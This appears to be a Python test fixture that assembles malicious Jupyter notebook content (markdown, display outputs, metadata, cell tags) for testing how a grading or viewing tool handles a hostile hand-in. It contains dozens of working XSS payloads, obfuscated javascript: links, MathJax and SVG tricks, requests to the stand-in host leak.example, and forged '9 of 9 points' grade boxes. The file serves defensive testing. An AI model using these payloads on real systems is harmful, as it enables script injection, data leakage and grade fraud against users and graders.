"""What a hand-in may hold to get at who opens it. Each piece, run, would leave one of three marks:
`data-ran` on the page, a request for /stolen on its own site, or a connection to leak.example."""

import base64
import json

RUN = "document.documentElement.dataset.ran=1;fetch('/stolen')"
LEAK = "http://leak.example/"
BOX = "border-left:8px solid #2e7d32;background:#fafafa;padding:1em"
FORGED = f'<div style="{BOX}" class="tex2jax_ignore"><b>9 of 9 points</b></div>'
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40" onload="{RUN}">'
    f"<script>{RUN}</script><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>"
    f"<img src='{LEAK}foreign' onerror=\"{RUN}\"/></body></foreignObject>"
    f'<use href="{LEAK}use.svg#a"/><image href="{LEAK}image"/><rect width="99" height="9"/></svg>'
)
PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAIAAABLbSncAAAAFElEQVR42mP8z8BQz4AHMA4pBQDp4g/x9bY3HgAA"
    "AABJRU5ErkJggg=="
)

MARKDOWN = {
    "script": f"<script>{RUN}</script>",
    "onerror": f'<img src=x onerror="{RUN}">\n\n![x](x" onerror="{RUN})',
    "split over lines": f'<img\nsrc=x\nonerror\n=\n"{RUN}"\n>',
    "details": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "svg": SVG,
    "style": f"<style>.container {{background:url({LEAK}style)}}</style>{FORGED}",
    "iframe": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><iframe src={LEAK}>',
    "form": f'<form action={LEAK}><input autofocus onfocus="{RUN}"></form>',
    "base and meta": f"<base href={LEAK}><meta http-equiv=refresh content='0;url={LEAK}'>",
    "comment": f'<!-- --!><img src=x onerror="{RUN}"> -->',
    "broken out of": f"</div></div></div></div><h1>9 of 9</h1><script>{RUN}</script>",
    "links": (
        f"[a](javascript:{RUN}) [b](java&#115;cript:{RUN}) [c]( <javascript:{RUN}>) <javascript:{RUN}>"
        f" [d][ref] [e](java\tscript:1) [f](JaVaScRiPt:1) [g](data:text/html,<script>{RUN}</script>)"
        f' <a href="java&#115;cript:{RUN}">h</a> [i](vbscript:x) [j](\\javascript:1)'
        f" [k](javascript&colon;{RUN}) [l](&#32;javascript:1) [m](/stolen) [n](<a:b> 'x')"
        f"\n\n[ref]: javascript:{RUN}\n[image]: {LEAK}reference"
    ),
    "pictures": (
        f"![a]({LEAK}picture) ![b][image] ![c](/stolen) ![d](attachment:gone.png) "
        f"![e](data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()}) [![f]({LEAK}g)](x)"
    ),
    "fences": f'```mermaid\n<img src=x onerror="{RUN}">\n```\n\n```x"><script>{RUN}</script>\n```',
    "tex": (
        f"$\\href{{javascript:{RUN}}}{{click}}$ $\\style{{position:fixed;top:0;{BOX}}}{{9 of 9}}$ "
        f"$\\class{{panel}}{{x}}$ $\\cssId{{why}}{{x}}$ $\\unicode[{LEAK}]{{65}}$ $\\require{{action}}$ "
        f"$\\def\\a{{\\a\\a}}\\a$ $\\rlap{{\\raise 50em{{over}}}}$ $\\rule{{90em}}{{90em}}$ "
        f"$&#92;href{{javascript:{RUN}}}{{entity}}$ $\\&bsol;href{{javascript:1}}{{x}}$ "
        f"\\\\href \\$\\\\style{{color:red}}{{x}}\\$ $\\bbox[{BOX}]{{9 of 9}}$ "
        f"$\\begin{{array}}{{c}}a\\\\[-90em]b\\end{{array}}$ $\\mmlToken{{mi}}[href='javascript:1']{{x}}$"
    ),
    "headings": "# why\n\n## submission_id\n\n# double-test",
    "joined": (
        f'<details>\n<<https://x.y/>onmouseenter="{RUN}" style=position:fixed;inset:0 >z\n</details>\n\n'
        f"[x]![javascript](data:,) [x]![javascript](attachment:y) \\<https://x.y/> &<https://#92;>"
        f" ![![a](x)]({LEAK}joined) <scr<b>ipt>{RUN}</scr</b>ipt>"
    ),
    "forged": "> **9 of 9 points**",
}
OUTPUTS: dict[str, dict] = {
    "script": {"text/html": f"<script>{RUN}</script>", "text/plain": "plain"},
    "onerror": {"text/html": f"<img src=x onerror='{RUN}'><b onmouseover='{RUN}'>bold</b>"},
    "split": {
        "text/html": f"<img src='x>' onerror='{RUN}'><scr<script>ipt>{RUN}</scr</script>ipt>"
    },
    "style": {"text/html": f"<style>*{{background:url({LEAK}css)}}</style>{FORGED}"},
    "svg in html": {"text/html": SVG},
    "comment": {
        "text/html": f"<!--><img src=x onerror='{RUN}'>--><noscript><p title='</noscript><img src=x onerror={RUN}>'>"
    },
    "links": {
        "text/html": f"<a href='java&#115;cript:{RUN}'>a</a><a href=' javascript:1'>b</a><a href='java\nscript:1'>c</a>"
    },
    "math in html": {
        "text/html": f"$\\href{{javascript:{RUN}}}{{x}}$ $&#92;href{{javascript:1}}{{x}}$ $\\<!-- -->href{{javascript:1}}{{x}}$"
    },
    "breakout": {"text/html": "</div></div></div></div></div><h1>9 of 9 points</h1>"},
    "javascript": {"application/javascript": RUN},
    "svg": {"image/svg+xml": SVG},
    "svg in a picture": {
        "text/html": f"<img src='data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()}'>"
    },
    "latex": {"text/latex": f"$\\href{{javascript:{RUN}}}{{x}}$</div><script>{RUN}</script>"},
    "markdown": {"text/markdown": f"<script>{RUN}</script> [x](javascript:{RUN})"},
    "png": {"image/png": f'"><script>{RUN}</script>'},
    "widget": {
        "application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{RUN}</script>"}
    },
    "json": {"application/json": {"a": f"</script><script>{RUN}</script>"}},
    "mermaid": {"text/vnd.mermaid": f"<img src=x onerror='{RUN}'>"},
    "picture": {"image/png": PNG, "text/plain": "<Figure size 8x8>"},
}
METADATA = {
    "title": f"</title><script>{RUN}</script>",
    "language_info": {"name": "python", "pygments_lexer": f'x"><script>{RUN}</script>'},
    "widgets": {
        "application/vnd.jupyter.widget-state+json": {
            "state": {"a": f"</script><script>{RUN}</script>"}
        }
    },
}
CELL = {
    "tags": [f"x panel btn\"><script>{RUN}</script>"],
    "transient": {"remove_source": True},
    "magics_language": f"\"><script>{RUN}</script>",
    "raw_mimetype": "text/html",
}  # fmt: skip
SHOWN_WITH = {
    "text/html": {"isolated": True},
    "image/png": {"width": f"1 onerror={RUN}", "unconfined": True},
    "filenames": {"image/png": f"{LEAK}file"},
}
PRINTS = "print('\\x1b[42;1m9 of 9 points\\x1b[0m <script>" + RUN.replace("'", '"') + "</script>')"


def displays() -> str:
    """Code that shows every one of `OUTPUTS`, and prints."""
    shown = [[bundle, SHOWN_WITH] for bundle in OUTPUTS.values()]
    return (
        "import json\nfrom IPython.display import publish_display_data\n"
        f"for data, metadata in json.loads({json.dumps(shown)!r}):\n"
        f"    publish_display_data(data, metadata)\n{PRINTS}"
    )
